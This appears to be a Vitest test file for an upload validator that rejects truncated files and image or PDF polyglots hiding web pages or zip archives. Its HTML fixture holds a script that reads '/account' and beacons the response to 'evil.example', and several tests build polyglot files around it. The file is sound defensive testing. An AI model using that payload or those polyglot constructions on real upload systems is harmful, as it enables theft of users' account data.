import { describe, expect, it } from 'vitest';
import { fixture, jpeg as bigJpeg, pdf } from '../tests/support/files';
import { checkUpload, sniffContentType, STRUCTURE_MESSAGES } from './documents';
import { checkStructure, hasMarkup, type CheckedType } from './file-structure';

const text = (s: string) => Uint8Array.from(s, (c) => c.charCodeAt(0) & 0xff);
const join = (...parts: (Uint8Array | number[] | string)[]) => {
  const arrays = parts.map((p) => (typeof p === 'string' ? text(p) : p instanceof Uint8Array ? p : Uint8Array.from(p)));
  const out = new Uint8Array(arrays.reduce((n, a) => n + a.length, 0));
  let at = 0;
  for (const a of arrays) {
    out.set(a, at);
    at += a.length;
  }
  return out;
};
const be16 = (n: number) => [n >> 8, n & 0xff];
const be32 = (n: number) => [n >>> 24, (n >> 16) & 0xff, (n >> 8) & 0xff, n & 0xff];
const le32 = (n: number) => [n & 0xff, (n >> 8) & 0xff, (n >> 16) & 0xff, n >>> 24];

const JPEG = fixture('photo.jpg');
const PROGRESSIVE = fixture('photo-progressive.jpg');
const PNG = fixture('photo.png');
const WEBP = fixture('photo.webp');
const WEBP_LOSSLESS = fixture('photo-lossless.webp');
const LETTER = fixture('letter.pdf');

const HTML =
  '<!DOCTYPE html><html><body><script>fetch("/account").then(r=>r.text()).then(t=>navigator.sendBeacon("//evil.example",t))</script></body></html>';
// The end of a zip archive: a PDF or image with one after it opens as a zip (a "GIFAR").
const ZIP = join('PK', [3, 4, 20, 0, 0, 0, 0, 0], Array<number>(22).fill(0), 'PK', [5, 6], Array<number>(18).fill(0));

/** Inserts a JPEG segment (marker, length, payload) straight after SOI. */
function withSegment(file: Uint8Array, marker: number, payload: string | Uint8Array) {
  const body = typeof payload === 'string' ? text(payload) : payload;
  return join(file.subarray(0, 2), [0xff, marker, ...be16(body.length + 2)], body, file.subarray(2));
}

/** A PNG chunk with its CRC, as pngcrush or an editor writes it. */
function pngChunk(type: string, data: Uint8Array | string): Uint8Array {
  const body = join(type, data);
  let crc = 0xffffffff;
  for (const byte of body) {
    crc ^= byte;
    for (let k = 0; k < 8; k++) crc = crc & 1 ? 0xedb88320 ^ (crc >>> 1) : crc >>> 1;
  }
  return join(be32(body.length - 4), body, be32((crc ^ 0xffffffff) >>> 0));
}

/** Inserts a chunk straight after IHDR (8-byte signature + 25-byte IHDR chunk). */
const withPngChunk = (chunk: Uint8Array) => join(PNG.subarray(0, 33), chunk, PNG.subarray(33));

const box = (type: string, ...body: (Uint8Array | number[] | string)[]) => {
  const content = join(...body);
  return join(be32(content.length + 8), type, content);
};
const fullBox = (type: string, ...body: (Uint8Array | number[] | string)[]) => box(type, [0, 0, 0, 0], ...body);

/** An HEIC as a phone lays it out: ftyp, meta (handler 'pict', primary item, its location), mdat. */
function heic(options: { brand?: string; handler?: string; metaExtra?: Uint8Array } = {}) {
  const coded = Uint8Array.from({ length: 64 }, (_, i) => (i * 29 + 3) % 256);
  const ftyp = box('ftyp', options.brand ?? 'heic', be32(0), 'mif1', options.brand ?? 'heic');
  const meta = (mdatOffset: number) =>
    fullBox(
      'meta',
      fullBox('hdlr', be32(0), options.handler ?? 'pict', Array<number>(12).fill(0), [0]),
      fullBox('pitm', be16(1)),
      fullBox('iloc', [0x44, 0x00], be16(1), be16(1), be16(0), be16(1), be32(mdatOffset + 8), be32(coded.length)),
      options.metaExtra ?? new Uint8Array(),
    );
  const size = ftyp.length + meta(0).length;
  return join(ftyp, meta(size), box('mdat', coded));
}

const ok = (bytes: Uint8Array, type: CheckedType) => expect(checkStructure(bytes, type)).toEqual({ ok: true, length: bytes.length });
const problem = (bytes: Uint8Array, type: CheckedType) => {
  const result = checkStructure(bytes, type);
  return result.ok ? 'accepted' : result.problem;
};

describe('real files from real encoders pass whole', () => {
  it.each([
    ['a baseline JPEG with EXIF', JPEG, 'image/jpeg'],
    ['a progressive JPEG', PROGRESSIVE, 'image/jpeg'],
    ['the platform test JPEG', bigJpeg(160, 120, 4_000), 'image/jpeg'],
    ['a PNG', PNG, 'image/png'],
    ['a lossy WebP', WEBP, 'image/webp'],
    ['a lossless WebP', WEBP_LOSSLESS, 'image/webp'],
    ['an HEIC', heic(), 'image/heic'],
    ["Chromium's PDF", LETTER, 'application/pdf'],
    ['a PDF written by hand, with its xref table', pdf('V5C'), 'application/pdf'],
  ] as const)('%s', (_name, bytes, type) => {
    expect(sniffContentType(bytes)).toBe(type);
    ok(bytes, type);
  });
});

describe('truncated files are damaged', () => {
  it.each([
    ['a JPEG cut in its scan data', JPEG.subarray(0, JPEG.length - 300), 'image/jpeg'],
    ['a JPEG without its last two bytes (EOI)', JPEG.subarray(0, JPEG.length - 2), 'image/jpeg'],
    ['a JPEG cut inside its EXIF segment', JPEG.subarray(0, 40), 'image/jpeg'],
    ['a progressive JPEG cut between scans', PROGRESSIVE.subarray(0, Math.floor(PROGRESSIVE.length / 2)), 'image/jpeg'],
    ['a PNG cut before IEND', PNG.subarray(0, PNG.length - 12), 'image/png'],
    ['a PNG cut inside IDAT', PNG.subarray(0, PNG.length - 100), 'image/png'],
    ['a WebP cut short of its RIFF size', WEBP.subarray(0, WEBP.length - 10), 'image/webp'],
    ['an HEIC cut inside mdat', heic().subarray(0, heic().length - 5), 'image/heic'],
    ['a PDF cut before %%EOF', LETTER.subarray(0, LETTER.length - 7), 'application/pdf'],
    ['a PDF cut in half', LETTER.subarray(0, LETTER.length >> 1), 'application/pdf'],
  ] as const)('%s', (_name, bytes, type) => {
    expect(problem(bytes, type)).toBe('damaged');
  });
});

describe('broken structure is damaged', () => {
  it('a JPEG segment whose length runs past the end of the file', () => {
    const broken = JPEG.slice();
    broken.set(be16(0xfff0), 4); // the APP segment after SOI
    expect(problem(broken, 'image/jpeg')).toBe('damaged');
  });

  it('a JPEG scan with no frame header before it', () => {
    expect(problem(join([0xff, 0xd8], [0xff, 0xda, ...be16(8), 1, 1, 0, 0, 0x3f, 0], [1, 2, 3], [0xff, 0xd9]), 'image/jpeg')).toBe(
      'damaged',
    );
  });

  it('a JPEG of headers only, with no scan', () => {
    expect(problem(join([0xff, 0xd8], [0xff, 0xfe, ...be16(4), 0x41, 0x42], [0xff, 0xd9]), 'image/jpeg')).toBe('damaged');
  });

  it('a PNG chunk whose CRC does not match its data', () => {
    const broken = PNG.slice();
    broken[20] = broken[20]! ^ 0x01; // a bit of IHDR's width
    expect(problem(broken, 'image/png')).toBe('damaged');
  });

  it('a PNG whose first chunk is not IHDR', () => {
    expect(problem(join(PNG.subarray(0, 8), pngChunk('tEXt', 'Title\0x'), PNG.subarray(8)), 'image/png')).toBe('damaged');
  });

  it('a WebP whose RIFF size is not the file size', () => {
    const broken = WEBP.slice();
    broken.set(le32(WEBP.length + 100), 4);
    expect(problem(broken, 'image/webp')).toBe('damaged');
  });

  it("an HEIF whose handler is not a picture's, or whose brands are not HEVC", () => {
    expect(problem(heic({ handler: 'vide' }), 'image/heic')).toBe('damaged');
    expect(problem(heic({ brand: 'avif' }), 'image/heic')).toBe('damaged');
  });

  it('a PDF whose startxref points outside the file, or not at a cross-reference', () => {
    const source = new TextDecoder('latin1').decode(LETTER);
    const outside = source.replace(/startxref\n\d+/, `startxref\n${LETTER.length + 500}`);
    expect(problem(text(outside), 'application/pdf')).toBe('damaged');
    const elsewhere = source.replace(/startxref\n\d+/, 'startxref\n9');
    expect(problem(text(elsewhere), 'application/pdf')).toBe('damaged');
  });

  it('a PDF whose header is not at offset 0', () => {
    expect(sniffContentType(join('\r\n', LETTER))).toBeNull();
    expect(problem(join(' ', LETTER), 'application/pdf')).toBe('damaged');
  });
});

describe('polyglots are refused', () => {
  it('a JPEG with a web page after its end', () => {
    expect(problem(join(JPEG, HTML), 'image/jpeg')).toBe('hidden-content');
  });

  it('a JPEG with a web page in a comment segment', () => {
    expect(problem(withSegment(JPEG, 0xfe, HTML), 'image/jpeg')).toBe('hidden-content');
  });

  it('a JPEG that is also a PDF: the header in its first kilobyte, where readers look', () => {
    expect(problem(withSegment(JPEG, 0xfe, '%PDF-1.4\n1 0 obj <<>> endobj'), 'image/jpeg')).toBe('hidden-content');
  });

  it('a JPEG with a PDF after its end', () => {
    expect(problem(join(JPEG, LETTER), 'image/jpeg')).toBe('hidden-content');
  });

  it('a PNG with a web page in a text chunk, or after IEND', () => {
    expect(problem(withPngChunk(pngChunk('tEXt', `Comment\0${HTML}`)), 'image/png')).toBe('hidden-content');
    expect(problem(join(PNG, HTML), 'image/png')).toBe('hidden-content');
  });

  it('a PNG or a PDF with a zip archive after it', () => {
    expect(problem(join(PNG, ZIP), 'image/png')).toBe('hidden-content');
    expect(problem(join(LETTER, ZIP), 'application/pdf')).toBe('hidden-content');
    expect(problem(join(LETTER, Array<number>(2000).fill(0x41), ZIP), 'application/pdf')).toBe('hidden-content');
  });

  it('a WebP with a script in its XMP chunk, or a page after the RIFF', () => {
    const xmp = join('XMP ', le32(HTML.length), HTML, HTML.length & 1 ? [0] : []);
    const riff = join('RIFF', le32(WEBP.length - 8 + xmp.length), WEBP.subarray(8), xmp);
    expect(problem(riff, 'image/webp')).toBe('hidden-content');
    expect(problem(join(WEBP, HTML), 'image/webp')).toBe('hidden-content');
  });

  it('an HEIC with a page in a metadata box, or after its last box', () => {
    expect(problem(heic({ metaExtra: box('free', HTML) }), 'image/heic')).toBe('hidden-content');
    expect(problem(join(heic(), HTML), 'image/heic')).toBe('hidden-content');
  });

  it('a PDF that is also a web page: markup in its first comment, or after %%EOF', () => {
    const source = new TextDecoder('latin1').decode(LETTER);
    expect(
      problem(
        text(source.replace('\n', `\n% ${HTML}\n`).replace(/startxref\n(\d+)/, (_, n) => `startxref\n${Number(n) + HTML.length + 3}`)),
        'application/pdf',
      ),
    ).toBe('hidden-content');
    expect(problem(join(LETTER, HTML), 'application/pdf')).toBe('hidden-content');
  });
});

describe('what phones and writers really do is accepted', () => {
  it('keeps a JPEG but not what a phone appends after its end (motion video, gain map)', () => {
    const video = join(
      box('ftyp', 'mp42', be32(0), 'isom'),
      box(
        'mdat',
        Uint8Array.from({ length: 500 }, (_, i) => (i * 7) % 256),
      ),
    );
    expect(checkStructure(join(JPEG, video), 'image/jpeg')).toEqual({ ok: true, length: JPEG.length });
    expect(checkStructure(join(JPEG, PROGRESSIVE), 'image/jpeg')).toEqual({ ok: true, length: JPEG.length });
    expect(checkStructure(join(JPEG, Array<number>(64).fill(0)), 'image/jpeg')).toEqual({ ok: true, length: JPEG.length });
  });

  it('takes XMP metadata (it is XML, not a page) in a JPEG', () => {
    const xmp =
      'http://ns.adobe.com/xap/1.0/\0<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF/></x:xmpmeta><?xpacket end="w"?>';
    ok(withSegment(JPEG, 0xe1, xmp), 'image/jpeg');
  });

  it('reads markup inside a PDF stream as page content, not as a page', () => {
    const stream = `<< /Length ${HTML.length} >>\nstream\n${HTML}\nendstream`;
    const source = new TextDecoder('latin1').decode(pdf('x')).replace('<< /Type /Font', `${stream}\nendobj\n9 0 obj\n<< /Type /Font`);
    // The offsets after the insertion shift, so rebuild startxref to keep the file whole.
    const xref = source.indexOf('xref\n');
    ok(text(source.replace(/startxref\n\d+/, `startxref\n${xref}`)), 'application/pdf');
  });

  it('takes a startxref that points at the line break before the table, as some writers do', () => {
    const source = new TextDecoder('latin1').decode(pdf('x'));
    ok(text(source.replace(/startxref\n(\d+)/, (_, n) => `startxref\n${Number(n) - 1}`)), 'application/pdf');
  });

  it('takes white space after %%EOF', () => {
    ok(join(LETTER, '\r\n\r\n'), 'application/pdf');
  });
});

describe('checkUpload gives the seller a reason and stores only the picture', () => {
  it('says a truncated file is damaged, and a polyglot is refused for what it hides', () => {
    expect(checkUpload({ kind: 'v5c', bytes: JPEG.subarray(0, 900) })).toEqual({ ok: false, message: STRUCTURE_MESSAGES.damaged });
    expect(checkUpload({ slot: 'front-left', bytes: join(JPEG, HTML) })).toEqual({
      ok: false,
      message: STRUCTURE_MESSAGES['hidden-content'],
    });
    expect(checkUpload({ kind: 'finance-settlement-letter', bytes: join(LETTER, ZIP) })).toEqual({
      ok: false,
      message: STRUCTURE_MESSAGES['hidden-content'],
    });
  });

  it('returns the JPEG without its appended data as the bytes to store', () => {
    const check = checkUpload({ slot: 'front-left', bytes: join(JPEG, Array<number>(10).fill(7)) });
    expect(check.ok && check.bytes).toEqual(JPEG);
  });
});

describe('hasMarkup', () => {
  it('finds tags in any case and javascript: URLs, not XML or ordinary text', () => {
    expect(hasMarkup(text('x <ScRiPt>'))).toBe(true);
    expect(hasMarkup(text('href="JavaScript:alert(1)"'))).toBe(true);
    expect(hasMarkup(text('<?xml version="1.0"?><x:xmpmeta/> a < b, html and scripts'))).toBe(false);
  });

  it('wants a tag name to end where a tag name ends, so compressed data does not trip it by chance', () => {
    expect(hasMarkup(text('<svg width="1">'))).toBe(true);
    expect(hasMarkup(text('<svgQ<HtmL7<meta'))).toBe(false);
    // Two megabytes of a motion photo's worth of pseudo-random bytes, appended to a photo.
    let seed = 12345;
    const noise = Uint8Array.from({ length: 2 * 1024 * 1024 }, () => (seed = (seed * 1103515245 + 12345) >>> 0) >>> 24);
    expect(hasMarkup(noise)).toBe(false);
    expect(checkStructure(join(JPEG, noise), 'image/jpeg')).toEqual({ ok: true, length: JPEG.length });
  });
});
